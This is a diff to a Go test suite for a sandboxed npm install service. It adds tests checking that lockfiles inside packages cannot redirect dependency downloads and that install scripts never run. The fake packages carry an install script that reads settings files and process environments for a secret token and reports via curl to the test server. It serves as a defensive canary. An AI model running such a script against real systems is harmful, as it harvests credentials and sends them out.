@@ -202,8 +202,8 @@ func (r *registryServer) addEvil(t *testing.T) {
 }
 
 // addNPM puts a package of npm into the registry, with scripts that say that they run and
-// what they can read.
-func (r *registryServer) addNPM(t *testing.T, name string, wants map[string]string) {
+// what they can read, and with more files, which are a lockfile's.
+func (r *registryServer) addNPM(t *testing.T, name string, wants map[string]string, more ...[2]string) {
 	const script = `cat /mnt/data/settings/* /proc/*/environ 2>/dev/null | grep -q s3cr3t-t0k[e]n && found=secret; curl -s -m 5 "URL/ran?${found:-nothing}"; true`
 	run := strings.ReplaceAll(script, "URL", r.URL)
 	manifest := map[string]any{
@@ -212,10 +212,11 @@ func (r *registryServer) addNPM(t *testing.T, name string, wants map[string]stri
 	}
 	raw, err := json.Marshal(manifest)
 	require.NoError(t, err)
-	file := packed(t, [][2]string{
+	file := packed(t, append([][2]string{
 		{"package/package.json", string(raw)}, {"package/main.js", "module.exports = 42\n"},
 		{"package/.npmrc", "ignore-scripts=false\nallow-git=all\n"},
-	})
+	}, more...))
+	manifest["_hasShrinkwrap"] = len(more) > 0
 	sum := sha512.Sum512(file)
 	manifest["dist"] = map[string]string{
 		"tarball": r.URL + "/npm/files/" + name + ".tgz", "integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:]),
@@ -322,6 +323,29 @@ func TestRegistryThatIsSignedInTo(t *testing.T) {
 			require.NotContains(t, p.Logged(), registryToken)
 		})
 	}
+}
+
+// TestLockfileInAPackage: npm has what a package wants from the registry, and not from where a
+// lockfile in the package says.
+func TestLockfileInAPackage(t *testing.T) {
+	t.Parallel()
+	r := newRegistry(t, false)
+	r.addNPM(t, "fine", nil)
+	r.files["npm/files/other.tgz"] = packed(t, [][2]string{
+		{"package/package.json", `{"name":"fine","version":"1.0.0","main":"main.js"}`}, {"package/main.js", "module.exports = 'other'\n"},
+	})
+	lock := fmt.Sprintf(`{"name":"locked","version":"1.0.0","lockfileVersion":3,"packages":{"":{"name":"locked"},
+		"node_modules/fine":{"version":"1.0.0","resolved":"%s/npm/files/other.tgz"}}}`, r.URL)
+	for _, file := range []string{"npm-shrinkwrap.json", "package-lock.json"} {
+		r.addNPM(t, "locked-"+file[:3], map[string]string{"fine": "*"}, [2]string{"package/" + file, lock})
+	}
+	p := r.serve(t, "locked")
+	for _, name := range []string{"locked-npm", "locked-pac"} {
+		_, raw := install(t, p, "javascript", "console.log(require(require.resolve('fine', {paths: ['/opt/dependencies/node_modules/"+name+"']})))", name)
+		require.Contains(t, raw, `"text":"42\n"`)
+	}
+	ran, _ := r.said()
+	require.Empty(t, ran, "code of packages has run")
 }
 
 // TestNoCodeOfPackagesRuns while they are installed without --dependencies-builds, in whichever way a
